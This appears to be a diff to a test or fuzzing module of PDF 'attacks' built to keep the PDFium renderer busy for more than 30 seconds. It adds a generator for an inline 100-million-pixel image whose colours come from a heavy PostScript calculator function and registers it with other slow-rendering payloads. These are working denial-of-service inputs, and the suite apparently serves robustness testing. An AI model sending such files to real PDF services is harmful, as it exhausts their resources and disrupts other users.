@@ -6,6 +6,7 @@ Each kept PDFium busy for more than 30 seconds, all but those of few copies, whi
 from __future__ import annotations
 
 import random
+import zlib
 
 from attacks.pdf_parts import Make
 from attacks.raw_pdf import drawing, packed, stream
@@ -75,6 +76,14 @@ def _tinted(times: int) -> bytes:
     return drawing(_WHOLE + b"/I Do " * times, b"/XObject<</I 5 0 R>>", picture, program)
 
 
+def _inline_tinted() -> bytes:
+    """An inline picture of 100 million dots whose colours a program works out."""
+    head = b"BI /W 10000 /H 10000 /BPC 1 /CS /C /F /Fl ID "
+    program = stream(b"{" + b"sin cos " * 100 + b"dup dup}", b"/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]")
+    space = b"/ColorSpace<</C[/Separation/S/DeviceRGB 5 0 R]>>"
+    return drawing(_WHOLE + head + zlib.compress(bytes(12_500_000), 9) + b" EI Q", space, program)
+
+
 def _pictures(content: bytes, more: bytes = b"") -> bytes:
     dot = stream(b"xyz", _IMAGE % (1, 1, 8) + b"/ColorSpace/DeviceRGB/Interpolate true" + more)
     mask = packed(bytes(range(250)) * 40, _IMAGE % (100, 100, 8) + b"/ColorSpace/DeviceGray")
@@ -116,6 +125,7 @@ PAINTING: dict[str, Make] = {
     ),
     "eight inks mixed for each dot 300 times": lambda: _inks(300),
     "picture of 20 million dots tinted by a program 20 times": lambda: _tinted(20),
+    "inline picture of 100 million dots tinted by a program": _inline_tinted,
     "turned picture 30,000 times": lambda: _pictures(_TURNED + b"/I Do " * 30_000),
     "turned form of 1,000 pictures 30 times": lambda: _pictures(_TURNED + b".0017 0 0 .0012 0 0 cm " + b"/F Do " * 30),
     "picture through a mask 30,000 times": lambda: _pictures(_WHOLE + b"/I Do " * 30_000, b"/SMask 6 0 R"),
